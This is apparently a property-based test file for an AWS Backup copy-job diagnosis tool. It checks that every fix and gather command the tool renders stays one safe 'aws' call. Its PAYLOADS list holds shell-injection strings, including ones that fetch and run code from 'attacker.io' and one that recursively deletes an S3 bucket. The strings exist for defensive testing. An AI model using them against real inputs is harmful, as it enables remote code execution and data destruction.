// Property test (issue 8, part 1): whatever a session holds, in any fact, any answer the wizard knows and any field of
// any paste, every command the engine shows is exactly one plain `aws` call. Checked for every rendering of every fix
// (AWS CLI script, Terraform, CloudFormation, JSON), every gather command and the command inside a fix summary.
import fc from 'fast-check';
import { parse as parseYaml } from 'yaml';
import { describe, expect, it } from 'vitest';
import { diagnose } from './diagnose';
import { gatherCommand } from './inputs/commands';
import { cliRendering, renderings } from './fixes/render';
import { isValue } from './core/formats';
import { t } from '../i18n';
import { pack } from '../test-support/pack';
import { expectOneAwsCall, expectScript, hasControl, shellWords } from '../test-support/shellWords';
import { TREE } from '../wizard/tree';
import { FACT_KEYS, PASTE_KEYS, type Diagnosis, type FactKey, type Session } from './types';
import type { Lang } from '../i18n';

const SRC = '210987654321';
const DEST = '345678901234';
const KEY = `arn:aws:kms:eu-west-1:${SRC}:key/0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58`;
const DEST_KEY = `arn:aws:kms:eu-central-1:${DEST}:key/6d2e8b41-7f3a-4c95-b0d8-e1a7c4f93b26`;
const ROLE = `arn:aws:iam::${SRC}:role/service-role/AWSBackupDefaultServiceRole`;
const DEST_VAULT = `arn:aws:backup:eu-central-1:${DEST}:backup-vault:central-backup-vault`;
const SRC_VAULT = `arn:aws:backup:eu-west-1:${SRC}:backup-vault:Default`;
const POINT = `arn:aws:backup:eu-west-1:${SRC}:recovery-point:3b1f9c2e-7a4d-4e8b-9c1a-2f3e4d5c6b7a`;

/** The reviewer's payloads and their relatives. */
export const PAYLOADS = [
  "central-backup-vault;curl$IFS-s$IFS'attacker.io/p'|sh;#",
  'central-vault\naws s3 rm s3://bucket --recursive',
  'x$(curl -s attacker.io/p|sh)',
  'x`id`',
  "x' ; id ; echo '",
  'x" ; id ; echo "',
  'x && id',
  'x || id',
  'x > /etc/passwd',
  'x < /dev/zero',
  'x\u2028id',
  'x\u2029id',
  'x\u202eid',
  'x\r\nid',
  'x\u0000id',
  'x\u0085id',
  '${jndi}',
  '%{x}',
  'a'.repeat(5000),
];

const META = [';', '|', '&', '&&', '||', '>', '<', '(', ')', '$(id)', '`id`', "'", '"', '\n', '\r', '\t', '\u2028', '\u2029', '\u202e', '\u0000', '\u0085', '\u007f', '#', ' ', '\\', '$IFS', '*', '~', '{', '}'];

/** Arbitrary text, often with shell metacharacters, unicode line separators or control characters in it. */
const hostile = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...META), fc.string({ maxLength: 8 })).map(([a, m, b]) => `${a}${m}${b}`),
  fc.constantFrom(...PAYLOADS),
);

/** A field's value: valid, hostile, or a valid value with something hostile after it (the reviewer's trick). */
function field(valid: string): fc.Arbitrary<string> {
  return fc.oneof(fc.constant(valid), hostile, hostile.map((h) => `${valid}${h}`));
}

const VALID_FACTS: Record<FactKey, string> = {
  sourceAccountId: SRC,
  destinationAccountId: DEST,
  sourceRegion: 'eu-west-1',
  destinationRegion: 'eu-central-1',
  resourceType: 'EBS',
  organizationId: 'o-7h2kd9x3qa',
  destinationVaultName: 'central-backup-vault',
  sourceKeyArn: KEY,
  destinationVaultKeyArn: DEST_KEY,
};

/** Every answer the wizard can record: its questions (an option, or anything) and its free-text fields. */
const ANSWER_IDS = [...new Set(Object.values(TREE).flatMap((n) => [...(n.questions ?? []).map((q) => q.id), ...(n.fields ?? [])]))];
const ANSWER_VALUES: Record<string, string> = {
  destinationCustomerKeyArn: DEST_KEY,
  sourceOrganizationPath: 'o-7h2kd9x3qa/r-ab12/ou-ab12-11111111/',
  destinationOrganizationPath: 'o-7h2kd9x3qa/r-ab12/ou-ab12-22222222/',
  copyRetentionDays: '400',
};
function answer(id: string): fc.Arbitrary<string> {
  const options = Object.values(TREE).flatMap((n) => n.questions ?? []).find((q) => q.id === id)?.options;
  return options ? fc.oneof(fc.constantFrom(...options), hostile) : field(ANSWER_VALUES[id] ?? 'x');
}

const MESSAGES = (role: string, vault: string) => [
  `The provided role ${role} cannot be assumed by AWS Backup.`,
  `IAM Role ${role} does not have sufficient permissions to execute the backup.`,
  'Copy job failed. The retention specified in the job is not within the range specified for the target Backup Vault.',
  'Access Denied trying to call AWS Backup service',
  "The tag policy does not allow the specified value for the following tag key: 'CostCenter'",
  'Copy job from eu-west-1 to eu-central-1 cannot be initiated for DynamoDB resources. Feature is not supported for provided resource type.',
  'KMS key is either disabled or pending deletion or access to KMS key is denied',
  'Failed to unshare snapshot',
  `Backup Vault ${vault} has no associated POLICY`,
];

const OWNER_ONLY = { Version: '2012-10-17', Statement: [{ Sid: 'Enable IAM User Permissions', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${SRC}:root` }, Action: 'kms:*', Resource: '*' }] };
const VAULT_OTHER = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::562390187442:root' }, Action: 'backup:CopyIntoBackupVault', Resource: '*' }] };
const SCP_DENY = { Version: '2012-10-17', Statement: [{ Sid: 'DenyCopies', Effect: 'Deny', Action: ['backup:CopyIntoBackupVault', 'backup:StartCopyJob'], Resource: '*' }] };
/** A tag policy whose rule matches the resource's tag key but wants it in other capitals: the fix renames the key. */
const tagPolicy = (key: string) => ({
  tags: { [key.toLowerCase()]: { tag_key: { '@@assign': key.toUpperCase() === key ? key.toLowerCase() : key.toUpperCase() }, tag_value: { '@@assign': ['100', '200'] }, enforced_for: { '@@assign': ['backup:recovery-point'] } } },
});

/** A failing session with every value in its place, each possibly hostile. */
const slots = {
  facts: fc.record(Object.fromEntries(FACT_KEYS.map((k) => [k, field(VALID_FACTS[k])])) as Record<FactKey, fc.Arbitrary<string>>, { requiredKeys: [] }),
  answers: fc.record(Object.fromEntries(ANSWER_IDS.map((id) => [id, answer(id)])), { requiredKeys: [] }),
  copyJobId: field('8A3C5F2E-7B41-4D0B-9A1E-2C3D4E5F6A7B'),
  sourceVaultArn: field(SRC_VAULT),
  destinationVaultArn: field(DEST_VAULT),
  recoveryPoint: field(POINT),
  resourceArn: field(`arn:aws:ec2:eu-west-1:${SRC}:volume/vol-0f1e2d3c4b5a69788`),
  resourceType: field('EBS'),
  role: field(ROLE),
  accountId: field(SRC),
  message: fc.nat(8),
  keyArn: field(KEY),
  keyId: field('0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58'),
  keyState: fc.constantFrom('Enabled', 'Disabled', 'PendingDeletion'),
  keyManager: fc.constantFrom('CUSTOMER', 'AWS'),
  destKeyArn: field(DEST_KEY),
  vaultName: field('central-backup-vault'),
  vaultKey: field(DEST_KEY),
  policyVaultName: field('central-backup-vault'),
  policyVaultArn: field(DEST_VAULT),
  scpId: field('p-a1b2c3d4'),
  tagPolicyId: field('p-b2c3d4e5'),
  tagKey: field('costcenter'),
  tagValue: field('100'),
  orgId: field('o-7h2kd9x3qa'),
  master: field('999988887777'),
};

type Slots = { [K in keyof typeof slots]: (typeof slots)[K] extends fc.Arbitrary<infer T> ? T : never };

function sessionOf(v: Slots): Session {
  const message = MESSAGES(v.role, v.policyVaultArn)[v.message]!;
  const copyJob = {
    CopyJob: {
      CopyJobId: v.copyJobId,
      AccountId: v.accountId,
      SourceBackupVaultArn: v.sourceVaultArn,
      DestinationBackupVaultArn: v.destinationVaultArn,
      SourceRecoveryPointArn: v.recoveryPoint,
      ResourceArn: v.resourceArn,
      ResourceType: v.resourceType,
      IamRoleArn: v.role,
      State: 'FAILED',
      StatusMessage: message,
    },
  };
  const describeKey = (arn: string, id: string) => JSON.stringify({ KeyMetadata: { KeyId: id, Arn: arn, KeyState: v.keyState, KeyManager: v.keyManager, Enabled: v.keyState === 'Enabled' } });
  const org = JSON.stringify({ Organization: { Id: v.orgId, MasterAccountId: v.master, FeatureSet: 'ALL' } });
  return {
    format: 'copy-doctor/session',
    version: 1,
    facts: v.facts,
    answers: Object.fromEntries(Object.entries(v.answers).filter((e): e is [string, string] => typeof e[1] === 'string')),
    pastes: {
      errorMessage: message,
      copyJob: JSON.stringify(copyJob, null, 2),
      sourceKeyPolicy: JSON.stringify({ Policy: JSON.stringify(OWNER_ONLY), PolicyName: 'default' }),
      sourceKeyMetadata: describeKey(v.keyArn, v.keyId),
      destinationKeyMetadata: describeKey(v.destKeyArn, v.keyId),
      destinationVault: JSON.stringify({ BackupVaultName: v.vaultName, BackupVaultArn: v.policyVaultArn, EncryptionKeyArn: v.vaultKey, Locked: true, MinRetentionDays: 7, MaxRetentionDays: 35 }),
      destinationVaultPolicy: JSON.stringify({ BackupVaultName: v.policyVaultName, BackupVaultArn: v.policyVaultArn, Policy: JSON.stringify(VAULT_OTHER) }),
      globalSettings: JSON.stringify({ GlobalSettings: { isCrossAccountBackupEnabled: 'false' } }),
      sourceOrganization: org,
      destinationOrganization: org,
      tagPolicy: JSON.stringify({ Policy: { PolicySummary: { Id: v.tagPolicyId, Name: 'cost' }, Content: JSON.stringify(tagPolicy(v.tagKey)) } }),
      resourceTags: JSON.stringify({ Tags: [{ Key: v.tagKey, Value: v.tagValue }, { Key: 'Name', Value: 'orders' }] }),
      serviceControlPolicies: JSON.stringify([{ Policy: { PolicySummary: { Id: v.scpId, Name: 'deny-copies' }, Content: JSON.stringify(SCP_DENY) } }]),
    },
  };
}

/** Strings a command must never hold: the hostile text itself, when it has something sh would act on. */
function dangerous(v: Slots): string[] {
  const all = [...Object.values(v.facts), ...Object.values(v.answers), ...Object.values(v)].filter((x): x is string => typeof x === 'string');
  return all.filter((s) => s.trim().length >= 4 && /[;|&$`\n\r<>()\u2028\u2029]/.test(s));
}

function expectTerraform(text: string, context: string) {
  for (const line of text.replace(/\n$/, '').split('\n')) {
    expect(hasControl(line), `${context}\n${JSON.stringify(line)}`).toBe(false);
    if (line.startsWith('#')) continue;
    // Every string on one line and closed; no template sequence left unescaped inside it.
    let inString = false;
    for (let i = 0; i < line.length; i++) {
      const c = line[i];
      if (inString && c === '\\') i++;
      else if (c === '"') inString = !inString;
      else if (inString && (c === '$' || c === '%') && line[i + 1] === '{') {
        expect(line[i - 1], `unescaped template sequence: ${context}\n${line}`).toBe(c);
      }
    }
    expect(inString, `string left open: ${context}\n${line}`).toBe(false);
    const key = /^\s*key_id\s*=\s*"(.*)"$/.exec(line)?.[1];
    if (key !== undefined) expect(isValue('kmsKey', key), line).toBe(true);
    const vault = /^\s*backup_vault_name\s*=\s*"(.*)"$/.exec(line)?.[1];
    if (vault !== undefined) expect(isValue('vaultName', vault), line).toBe(true);
  }
}

function expectCloudFormation(text: string, documentText: string | undefined, context: string) {
  for (const line of text.split('\n')) expect(hasControl(line), `${context}\n${JSON.stringify(line)}`).toBe(false);
  const doc = parseYaml(text) as { Resources: Record<string, { Properties: Record<string, unknown> }> };
  const resources = Object.values(doc.Resources);
  expect(resources).toHaveLength(1);
  const props = resources[0]!.Properties;
  const name = props.BackupVaultName;
  if (name !== undefined) expect(typeof name === 'string' ? isValue('vaultName', name) : JSON.stringify(name) === '{"Ref":"DestinationVaultName"}', context).toBe(true);
  const policy = props.KeyPolicy ?? props.AccessPolicy;
  expect(policy, context).toEqual(JSON.parse(documentText ?? 'null'));
}

/** Every command the diagnosis shows, in every form, checked; returns every command line. */
export function everyCommand(session: Session, d: Diagnosis, lang: Lang): string[] {
  const translate = (key: string, params?: Record<string, string | number>) => t(lang, key, params);
  const lines: string[] = [];
  for (const c of d.checks) {
    const context = `check ${c.id}`;
    for (const command of c.fix?.commands ?? []) {
      expectOneAwsCall(command, context);
      lines.push(command);
    }
    const create = c.fix?.summaryParams?.createCommand;
    if (create !== undefined) {
      expectOneAwsCall(String(create), `${context} summary`);
      lines.push(String(create));
    }
    const cli = cliRendering(c, d.facts, translate);
    if (cli) expectScript(cli.text, `${context} CLI rendering`);
    // As the results page renders them (resolved facts), and as a caller with the session's own facts would.
    for (const r of [...renderings(c, d.facts, translate), ...renderings(c, session.facts, translate)]) {
      expect(r.fileName, context).toMatch(/^[a-z0-9][a-z0-9._-]*$/i);
      if (r.format === 'aws-cli') expectScript(r.text, context);
      else if (r.format === 'terraform') expectTerraform(r.text, `${context} ${r.fileName}`);
      else if (r.format === 'cloudformation') expectCloudFormation(r.text, c.fix?.documents.find((doc) => doc.input === r.input)?.text, `${context} ${r.fileName}`);
      else expect(() => JSON.parse(r.text) as unknown).not.toThrow();
    }
  }
  const facts = { raw: session.facts, resolved: Object.fromEntries(Object.entries(d.facts).map(([k, v]) => [k, v?.value])) };
  for (const [which, f] of Object.entries(facts)) {
    for (const input of PASTE_KEYS) {
      for (const command of gatherCommand(input, f)?.commands ?? []) {
        expectOneAwsCall(command, `gather ${input} (${which} facts)`);
        lines.push(command);
      }
    }
  }
  return lines;
}

describe('the shell-words reader used below', () => {
  it('reports everything sh would act on', () => {
    expect(shellWords("aws backup x --a 'b c' d").words.map((w) => w.text)).toEqual(['aws', 'backup', 'x', '--a', 'b c', 'd']);
    expect(shellWords("aws x 'it'\\''s'").words.map((w) => w.text)).toEqual(['aws', 'x', "it's"]);
    for (const bad of ['aws x a;b', 'aws x a|b', 'aws x a&b', 'aws x $(id)', 'aws x `id`', 'aws x "a"', "aws x 'a", 'aws x a\\;', 'aws x a\nb', 'aws x #c', 'aws x *', 'aws x ~', 'aws x >f']) {
      expect(shellWords(bad).problems.length, bad).toBeGreaterThan(0);
    }
    expect(shellWords("aws x 'a;b|c$(d)`e`'").problems).toEqual([]);
  });
});

const BASE: Slots = {
  facts: { ...VALID_FACTS },
  answers: { ...ANSWER_VALUES },
  copyJobId: '8A3C5F2E-7B41-4D0B-9A1E-2C3D4E5F6A7B',
  sourceVaultArn: SRC_VAULT,
  destinationVaultArn: DEST_VAULT,
  recoveryPoint: POINT,
  resourceArn: `arn:aws:ec2:eu-west-1:${SRC}:volume/vol-0f1e2d3c4b5a69788`,
  resourceType: 'EBS',
  role: ROLE,
  accountId: SRC,
  message: 0,
  keyArn: KEY,
  keyId: '0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58',
  keyState: 'PendingDeletion',
  keyManager: 'CUSTOMER',
  destKeyArn: DEST_KEY,
  vaultName: 'central-backup-vault',
  vaultKey: DEST_KEY,
  policyVaultName: 'central-backup-vault',
  policyVaultArn: DEST_VAULT,
  scpId: 'p-a1b2c3d4',
  tagPolicyId: 'p-b2c3d4e5',
  tagKey: 'costcenter',
  tagValue: '100',
  orgId: 'o-7h2kd9x3qa',
  master: '999988887777',
};

/** Diagnoses the session the slots describe and checks every command in it; the hostile text is in none of them. */
function checkSlots(v: Slots, lang: Lang): string[] {
  const session = sessionOf(v);
  const d = diagnose(session, pack, { translate: (key, params) => t(lang, key, params) });
  // A check that threw would hide its commands from this test.
  expect(d.checks.flatMap((c) => c.findings).filter((f) => f.code === 'CHECK_INTERNAL_ERROR')).toEqual([]);
  const lines = everyCommand(session, d, lang);
  for (const bad of dangerous(v)) for (const line of lines) expect(line.includes(bad), `${JSON.stringify(bad)} in ${line}`).toBe(false);
  return lines;
}

// Each run diagnoses a whole session (every check, fixes verified): minutes on a busy 2-core machine, not seconds.
describe('every shown command is one plain, safe aws call', { timeout: 180_000 }, () => {
  it('for arbitrary text in every fact, answer and paste field at once', () => {
    fc.assert(
      fc.property(fc.record(slots), fc.constantFrom<Lang>('en', 'zh-TW'), (v, lang) => {
        checkSlots(v, lang);
      }),
      { numRuns: 100 },
    );
  });

  it('for the valid session itself: the fixes carry their commands', () => {
    const lines = checkSlots(BASE, 'en');
    for (const op of ['put-key-policy', 'put-backup-vault-access-policy', 'cancel-key-deletion', 'update-global-settings', 'start-copy-job', 'update-policy', 'untag-resource', 'tag-resource']) {
      expect(lines.some((l) => l.includes(` ${op} `)), op).toBe(true);
    }
  });

  // One hostile value at a time, the rest valid, so that every check builds the fix that would carry it.
  const pasteSlots = (Object.keys(slots) as (keyof Slots)[]).filter((k) => !['facts', 'answers', 'message', 'keyState', 'keyManager'].includes(k));
  for (const slot of pasteSlots) {
    it(`for arbitrary text in the paste field ${slot}`, () => {
      fc.assert(
        fc.property(slots[slot] as fc.Arbitrary<string>, fc.nat(8), (h, message) => {
          checkSlots({ ...BASE, [slot]: h, message }, 'en');
        }),
        { numRuns: 12 },
      );
    });
  }

  for (const key of FACT_KEYS) {
    it(`for arbitrary text in the fact ${key}`, () => {
      fc.assert(
        fc.property(field(VALID_FACTS[key]), fc.nat(8), (h, message) => {
          checkSlots({ ...BASE, facts: { ...VALID_FACTS, [key]: h }, message }, 'en');
        }),
        { numRuns: 12 },
      );
    });
  }

  for (const id of ANSWER_IDS) {
    it(`for arbitrary text in the answer ${id}`, () => {
      fc.assert(
        fc.property(answer(id), fc.nat(8), (h, message) => {
          checkSlots({ ...BASE, answers: { ...ANSWER_VALUES, [id]: h }, message }, 'en');
        }),
        { numRuns: 12 },
      );
    });
  }
});
